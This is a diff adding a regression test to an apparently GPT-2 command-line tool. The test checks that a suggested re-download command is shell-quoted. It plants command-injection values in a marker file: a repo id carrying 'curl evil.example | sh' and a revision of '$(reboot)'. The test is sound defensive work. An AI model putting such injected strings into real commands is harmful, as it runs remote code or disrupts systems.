@@ -364,3 +364,16 @@ def test_batch_refuses_to_append_to_a_file_of_records_rather_than_results(tiny_m
     line = assert_one_error_line(run_quick("batch", source, "-m", tiny_model, "-n", "2", "-o", prompts), 2)
     assert "not a batch result" in line
     assert prompts.read_bytes() == before
+
+
+def test_the_re_download_command_an_error_suggests_is_quoted_for_the_shell(own_model):
+    # the marker is a file like any other in a folder someone hands over: its repo and revision were
+    # pasted into the suggested command as they were, `; curl … | sh` included
+    import shlex
+
+    marker = {"repo_id": "x; curl evil.example | sh #", "revision": "$(reboot)"}
+    (own_model / MARKER).write_text(json.dumps(marker), encoding="utf-8")
+    (own_model / "config.json").write_text("{", encoding="utf-8")
+    line = assert_one_error_line(run_quick("generate", "-m", own_model, "-n", "2", "hi"), 3)
+    suggested = line.split("`")[1]
+    assert shlex.split(suggested) == ["gpt2cli", "download", marker["repo_id"], "--revision", "$(reboot)", "--force"]
